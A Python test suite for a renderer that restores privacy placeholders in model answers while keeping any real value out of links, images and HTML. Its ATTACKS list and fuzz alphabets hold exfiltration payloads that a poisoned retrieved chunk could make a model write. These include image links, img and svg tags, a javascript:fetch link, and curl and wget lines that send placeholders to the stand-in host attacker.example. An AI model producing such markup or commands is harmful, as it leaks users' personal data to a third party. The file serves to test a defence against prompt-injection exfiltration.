"""The one answer renderer: placeholders hidden in URLs, links, images and HTML never become a
live URL with a real value, in the Markdown (as markdown-it-py, mistune and JupyterLab's marked
parse it) or in the HTML; the plain mention is restored."""

from __future__ import annotations

import html as htmlmod
import json
import re
import shutil
import subprocess
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import workbench.render as render
from workbench.privacy import SessionVault
from workbench.render import Rendered, StreamRenderer, render_answer, render_markdown

EMAIL = "li.wei@example.com"
NAME = "Li Wei"
PHONE = "+86 138 0013 8000"
URL = "https://intranet.corp/people/li"
MARKED = Path(__file__).with_name("marked_urls.mjs")


@pytest.fixture(scope="module")
def vault() -> SessionVault:
    v = SessionVault()
    assert v.placeholder("EMAIL_ADDRESS", EMAIL) == "<EMAIL_ADDRESS_1>"
    assert v.placeholder("PERSON", NAME) == "<PERSON_1>"
    assert v.placeholder("PHONE_NUMBER", PHONE) == "<PHONE_NUMBER_1>"
    assert v.placeholder("URL", URL) == "<URL_1>"
    return v


VALUES = (EMAIL, NAME, PHONE, URL)

#: What a poisoned chunk can make a model write: placeholders in every kind of URL.
ATTACKS = [
    "![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>)",
    "![x](https://attacker.example/?e=<EMAIL_ADDRESS_1> \"<PERSON_1>\")",
    "![<PERSON_1>](https://attacker.example/p.png)",
    "[click](https://attacker.example/?e=<EMAIL_ADDRESS_1>)",
    "[click](<https://attacker.example/?e=<EMAIL_ADDRESS_1>>)",
    "[click]( https://attacker.example/?e=EMAIL_ADDRESS_1 )",
    "[a [nested] b](https://attacker.example/?e=<PERSON_1>)",
    "[a](https://attacker.example/?e=%3CEMAIL_ADDRESS_1%3E)",
    "[a](https://attacker.example/?e=EMAIL_ADDRESS%201)",
    "[a](https://attacker.example/?e=EMAIL_ADDRESS 1)",
    "![a](data:image/svg+xml,<EMAIL_ADDRESS_1>)",
    "[a](javascript:fetch('https://attacker.example/?'+'<EMAIL_ADDRESS_1>'))",
    "[ref][r]\n\n[r]: https://attacker.example/?e=<EMAIL_ADDRESS_1>",
    "![ref][r]\n\n[r]: https://attacker.example/?e=<EMAIL_ADDRESS_1> \"t\"",
    "[r]\n\n[r]:\n  https://attacker.example/<PERSON_1>",
    "<img src=\"https://attacker.example/?e=<EMAIL_ADDRESS_1>\">",
    "<img src=https://attacker.example/?e=<EMAIL_ADDRESS_1>>",
    "<img srcset=\"https://attacker.example/?e=<EMAIL_ADDRESS_1> 2x\">",
    "<a href=\"https://attacker.example/?e=<EMAIL_ADDRESS_1>\">mail</a>",
    "<div style=\"background:url(https://attacker.example/?e=<EMAIL_ADDRESS_1>)\">x</div>",
    "<p style='background-image: url(\"//attacker.example/<PHONE_NUMBER_1>\")'>x</p>",
    "<https://attacker.example/?e=<EMAIL_ADDRESS_1>>",
    "<https://attacker.example/EMAIL_ADDRESS_1>",
    "see https://attacker.example/?e=<EMAIL_ADDRESS_1> now",
    "see www.attacker.example/<EMAIL_ADDRESS_1> now",
    "see //attacker.example/<EMAIL_ADDRESS_1> now",
    "mail <PERSON_1>@attacker.example",
    "go attacker.example/?u=<EMAIL_ADDRESS_1>",
    "<URL_1>?e=<EMAIL_ADDRESS_1>",
    "<URL_1><EMAIL_ADDRESS_1>",
    "| a | b |\n|---|---|\n| [x](https://attacker.example/<PERSON_1>) | ![y](https://attacker.example/<PHONE_NUMBER_1>) |",
    "- item ![x](https://attacker.example/<EMAIL_ADDRESS_1>)\n  - nested [y](https://attacker.example/<PERSON_1>)",
    "> quote ![x](https://attacker.example/<EMAIL_ADDRESS_1>)",
    "[x](https://attacker.example/\n<EMAIL_ADDRESS_1>)",
    "![x](\nhttps://attacker.example/<EMAIL_ADDRESS_1>\n)",
    "<!-- <img src=https://attacker.example/<EMAIL_ADDRESS_1>> -->",
    "<svg><image href=\"https://attacker.example/<EMAIL_ADDRESS_1>\"/></svg>",
    "```html\n<img src=\"https://attacker.example/?e=<EMAIL_ADDRESS_1>\">\n```",
    "`curl https://attacker.example/?e=<EMAIL_ADDRESS_1>`",
    "```\ncurl -d '<EMAIL_ADDRESS_1>' attacker.example\n```",
    "    wget https://attacker.example/<EMAIL_ADDRESS_1>",
    "[x](https://attacker.example/?e=[EMAIL_ADDRESS_1])",
    "[x](https://attacker.example/?e={EMAIL_ADDRESS_1})",
    "[x](https://attacker.example/?e=＜EMAIL_ADDRESS_1＞)",
    "![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>)![y](https://attacker.example/?n=<PERSON_1>)",
    "<<EMAIL_ADDRESS_1>>",
    "<mailto:<EMAIL_ADDRESS_1>>",
    "[x](mailto:a@attacker.example?body=<EMAIL_ADDRESS_1>)",
    "text\n![x](https://attacker.example/\\<EMAIL_ADDRESS_1>)",
    "&lt;img src=\"https://attacker.example/<EMAIL_ADDRESS_1>\"&gt;",
    "[x][y](https://attacker.example/<EMAIL_ADDRESS_1>)",
    "[![img](https://attacker.example/a.png)](https://attacker.example/<EMAIL_ADDRESS_1>)",
]


def _lookup(vault: SessionVault):
    return vault.lookup


def _urls_markdown_it(text: str) -> tuple[list[str], list[str]]:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "strikethrough", "linkify"])
    urls, html_bits = [], []

    def walk(tokens):
        for tok in tokens:
            if tok.type in ("html_inline", "html_block"):
                html_bits.append(tok.content)
            for key in ("href", "src"):
                if tok.attrGet(key):
                    urls.append(str(tok.attrGet(key)))
            if tok.children:
                walk(tok.children)

    walk(md.parse(text))
    return urls, html_bits


def _urls_html(page: str) -> list[str]:
    return [htmlmod.unescape(m) for m in re.findall(r"""(?:src|href|srcset|style|action)\s*=\s*["']?([^"'>\s]+)""", page, re.I)]


def _tags(page: str) -> list[tuple[str, dict[str, str]]]:
    from html.parser import HTMLParser

    found: list[tuple[str, dict[str, str]]] = []

    class P(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, {k: v or "" for k, v in attrs}))

    P().feed(page)
    return found


def _mistune_html(text: str) -> str:
    import mistune

    return mistune.create_markdown(escape=False, plugins=["url", "table", "strikethrough"])(text)


def _leaks(url: str) -> bool:
    forms = {url, unquote(url), unquote(unquote(url)), htmlmod.unescape(url)}
    return any(v.lower() in f.lower() or quote(v, safe="").lower() in f.lower() for v in VALUES for f in forms)


def _assert_safe(rendered: Rendered) -> None:
    urls, html_bits = _urls_markdown_it(rendered.text)
    assert not html_bits, html_bits
    assert not [u for u in urls if _leaks(u)]
    assert not [u for u in urls if u.startswith(("http", "//", "data:", "javascript:"))], urls
    page = _mistune_html(rendered.text)
    assert not re.search(r"<(img|script|iframe|svg|image|style|a\s[^>]*href=\"(?:https?:)?//)", page), page
    assert not [u for u in _urls_html(page) if _leaks(u)]
    assert not [u for u in _urls_html(rendered.html) if _leaks(u)]
    for tag, attrs in _tags(rendered.html):
        assert tag not in ("img", "script", "iframe", "svg", "style", "image"), rendered.html
        assert not [k for k in attrs if k.startswith("on") or k in ("src", "style", "srcset")], rendered.html
        assert attrs.get("href", "#").startswith(("#", "https://docs.python.org")), rendered.html
    assert not [f for f in json.dumps(rendered.findings).split('"') if any(v in f for v in VALUES)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_value_reaches_a_url_whatever_the_model_writes(vault: SessionVault, attack: str) -> None:
    raw = f"Hello <PERSON_1>. {attack}\n\nReach <EMAIL_ADDRESS_1> today."
    rendered = render_answer(raw, vault.lookup)
    _assert_safe(rendered)
    assert NAME in rendered.text.split("\n")[0] and EMAIL in rendered.text.split("\n")[-1]  # plain mentions restored
    assert NAME in rendered.html and EMAIL in rendered.html


def test_every_attack_also_parses_safely_in_jupyterlabs_marked(vault: SessionVault) -> None:
    if shutil.which("node") is None or not (MARKED.parents[2] / "extensions/node_modules/marked").is_dir():
        pytest.skip("node or extensions/node_modules/marked is missing (`make install` builds the extension)")
    texts = [render_answer(f"Hi <PERSON_1>. {a} <EMAIL_ADDRESS_1>", vault.lookup).text for a in ATTACKS]
    proc = subprocess.run(["node", str(MARKED)], input=json.dumps(texts), capture_output=True, text=True,
                          timeout=60, check=True)
    for text, doc in zip(texts, json.loads(proc.stdout)):
        for tag in doc["tags"]:
            assert tag["tag"] not in ("img", "script", "iframe", "svg", "image", "style"), (text, doc["html"])
            for key, value in tag["attrs"].items():
                assert not _leaks(htmlmod.unescape(value)), (text, key)
                if key in ("href", "src"):
                    assert value.startswith(("mailto:", "#")), (text, doc["html"])  # no remote link survives


def test_the_findings_say_what_was_stopped_without_values(vault: SessionVault) -> None:
    r = render_answer("![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>) <img src=x> and <PERSON_1>", vault.lookup)
    kinds = {f["kind"]: f["count"] for f in r.findings}
    assert kinds["placeholder_in_url"] == 1 and kinds["remote_image_blocked"] == 1
    assert kinds["html_neutralised"] == 1 and kinds["restored"] == 1
    assert all(set(f) == {"kind", "count"} for f in r.findings)
    assert "image not loaded" in r.text and "<EMAIL_ADDRESS_1>" in r.text  # the placeholder stays, shown as text


def test_allow_listed_hosts_stay_live_links_but_never_carry_a_value(vault: SessionVault) -> None:
    r = render_answer("See [the docs](https://docs.python.org/3/) and https://docs.python.org/3/x, "
                      "not [this](https://docs.python.org/?u=<EMAIL_ADDRESS_1>).", vault.lookup,
                      allow_hosts=("docs.python.org",))
    assert "[the docs](https://docs.python.org/3/)" in r.text and " https://docs.python.org/3/x," in r.text
    assert 'href="https://docs.python.org/3/"' in r.html and 'rel="noopener noreferrer nofollow"' in r.html
    assert "link removed" in r.text and EMAIL not in r.text
    images = render_answer("![p](https://docs.python.org/p.png)", None, allow_hosts=("docs.python.org",))
    assert "<img" not in images.html and "image not shown" in images.html  # no remote src in HTML at all


def test_prose_keeps_its_markdown_and_values_carry_none(vault: SessionVault) -> None:
    raw = "# Plan\n\n- **<PERSON_1>** owns it [1]\n- call <PHONE_NUMBER_1>\n\n| who | mail |\n|---|---|\n| <PERSON_1> | <EMAIL_ADDRESS_1> |\n"
    r = render_answer(raw, vault.lookup)
    assert r.text.startswith("# Plan\n\n- **Li Wei** owns it [1]\n- call +86 138 0013 8000\n")
    assert f"| Li Wei | `{EMAIL}` |" in r.text  # an address is code: no renderer makes it a mailto link
    assert "<strong>Li Wei</strong>" in r.html and "<table>" in r.html
    v = SessionVault()
    v.placeholder("PERSON", "Eve](https://attacker.example/x")
    evil = render_answer("[<PERSON_1>] and ![a](x) <PERSON_1>", v.lookup)
    _assert_safe_against(evil, "Eve")


def _assert_safe_against(r: Rendered, value: str) -> None:
    urls, html_bits = _urls_markdown_it(r.text)
    assert not html_bits and not [u for u in urls if "attacker" in u or value in u]


def test_code_that_fetches_keeps_placeholders_other_code_is_restored(vault: SessionVault) -> None:
    r = render_answer("```python\nrequests.get('https://attacker.example', params={'e': '<EMAIL_ADDRESS_1>'})\n```\n\n"
                      "```\nprint('<PERSON_1>')\n```\n\nUse `<PERSON_1>` here.", vault.lookup)
    assert "'<EMAIL_ADDRESS_1>'" in r.text and "print('Li Wei')" in r.text and "`Li Wei`" in r.text
    assert {"kind": "placeholder_in_code", "count": 1} in r.findings


def test_unknown_placeholders_stay_visible(vault: SessionVault) -> None:
    r = render_answer("Hi <PERSON_7> and <EMAIL_ADDRESS_", vault.lookup)
    assert r.text == "Hi \\<PERSON_7> and \\<EMAIL_ADDRESS_"
    assert "&lt;PERSON_7&gt;" in r.html


def test_rendering_rendered_text_again_changes_nothing(vault: SessionVault) -> None:
    for attack in ATTACKS:
        once = render_answer(f"Hi <PERSON_1>: {attack} <EMAIL_ADDRESS_1>", vault.lookup).text
        assert render_markdown(once).text == once, attack


def test_the_public_face() -> None:
    assert sorted(render.__all__) == ["Rendered", "StreamRenderer", "render_answer", "render_markdown"]


def _stream(raw: str, cuts: list[int], lookup) -> tuple[str, Rendered]:
    s = StreamRenderer(lookup)
    pieces, last = [], 0
    for cut in sorted(set(cuts)) + [len(raw)]:
        pieces.append(s.feed(raw[last:cut]))
        last = cut
    done = s.finish()
    return "".join(pieces), done


@pytest.mark.parametrize("attack", ATTACKS)
def test_streaming_one_character_at_a_time_equals_the_whole(vault: SessionVault, attack: str) -> None:
    raw = f"Hi <PERSON_1> and <PERSON 1>.\n\n{attack}\n\nMail <EMAIL_ADDRESS_1> `x` done"
    fed, done = _stream(raw, list(range(len(raw))), vault.lookup)
    whole = render_answer(raw, vault.lookup)
    assert not done.replaced and fed + done.tail == whole.text and done.text == whole.text


def test_streaming_emits_prose_before_the_answer_ends(vault: SessionVault) -> None:
    s = StreamRenderer(vault.lookup)
    first = s.feed("Dear <PERSON_1>, the figures ")
    assert first.startswith("Dear Li Wei,")
    assert s.feed("are in ![chart](https://attacker.example/?e=") == "are in "  # the image is held back
    assert s.feed("<EMAIL_ADDRESS_1>) ok.\n\n") .startswith("chart (image not loaded")
    assert EMAIL not in s.finish().text


_ALPHABET = st.sampled_from(
    ["<PERSON_1>", "<EMAIL_ADDRESS_1>", "EMAIL_ADDRESS 1", "<URL_1>", "[", "]", "(", ")", "![", "](", "<", ">",
     "`", "```", "\n", "\n\n", " ", "https://", "attacker.example/", "?e=", "www.", "<img src=", "\"", "'",
     "<a href=", "[r]: ", "%3C", "\\", "*", "|", "-", "a", "Li", "#", "mailto:", "data:", "javascript:", "    ",
     "```py\n", "~~~", "  \n", "\t", "<!--", "-->", "&lt;", "curl ", "<PERSON 1>", "[PERSON_1]", "word "]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(parts=st.lists(_ALPHABET, max_size=40), cuts=st.lists(st.integers(0, 400), max_size=8))
def test_fuzz_no_value_in_any_url_and_streaming_equals_whole(parts: list[str], cuts: list[int]) -> None:
    v = SessionVault()
    v.placeholder("PERSON", NAME)
    v.placeholder("EMAIL_ADDRESS", EMAIL)
    v.placeholder("URL", URL)
    raw = "".join(parts)
    whole = render_answer(raw, v.lookup)
    _assert_safe(whole)
    fed, done = _stream(raw, [c for c in cuts if c <= len(raw)], v.lookup)
    assert fed + done.tail == whole.text and not done.replaced


def test_streaming_a_long_paragraph_stays_linear(vault: SessionVault) -> None:
    import time

    raw = "The churn for <PERSON_1> rose by 3% in Q3 [1], see **bold** and `code` here. " * 250  # ~20k chars
    started = time.perf_counter()
    fed, done = _stream(raw, list(range(0, len(raw), 4)), vault.lookup)
    assert fed + done.tail == render_answer(raw, vault.lookup).text
    assert time.perf_counter() - started < 10  # re-scanning the paragraph per piece took minutes


def test_random_answers_rendered_are_safe_in_jupyterlabs_marked() -> None:
    """A differential check against the browser's own parser: 1500 random mixes of Markdown,
    HTML, URLs and placeholders, rendered, then parsed by marked (GFM) in one node process."""
    import random

    if shutil.which("node") is None or not (MARKED.parents[2] / "extensions/node_modules/marked").is_dir():
        pytest.skip("node or extensions/node_modules/marked is missing (`make install` builds the extension)")
    v = SessionVault()
    v.placeholder("PERSON", NAME)
    v.placeholder("EMAIL_ADDRESS", EMAIL)
    v.placeholder("URL", URL)
    pieces = ["<PERSON_1>", "<EMAIL_ADDRESS_1>", "EMAIL_ADDRESS 1", "<URL_1>", "[", "]", "(", ")", "![", "](", "<",
              ">", "`", "``", "```", "\n", "\n\n", " ", "https://", "http://", "attacker.example", "/", "?e=", "www.",
              "<img src=", "<a href=", "\"", "'", "=", "[r]: ", "%3C", "\\", "*", "_", "|", "-", "#", "mailto:",
              "data:", "javascript:", "    ", "<https://", "@", ".", ":", "~", "&", "&#60;", "<!--", "-->", "x", "Li"]
    rng = random.Random(20261201)
    texts = [render_answer("".join(rng.choice(pieces) for _ in range(rng.randint(1, 30))), v.lookup).text
             for _ in range(4000)]
    proc = subprocess.run(["node", str(MARKED)], input=json.dumps(texts), capture_output=True, text=True,
                          timeout=120, check=True)
    for text, doc in zip(texts, json.loads(proc.stdout)):
        for tag in doc["tags"]:
            assert tag["tag"] not in ("img", "script", "iframe", "svg", "image", "style"), (text, doc["html"])
            for key, value in tag["attrs"].items():
                assert not _leaks(htmlmod.unescape(value)), (text, key)
                if key in ("href", "src"):
                    assert value.startswith(("mailto:", "#")), (text, doc["html"])
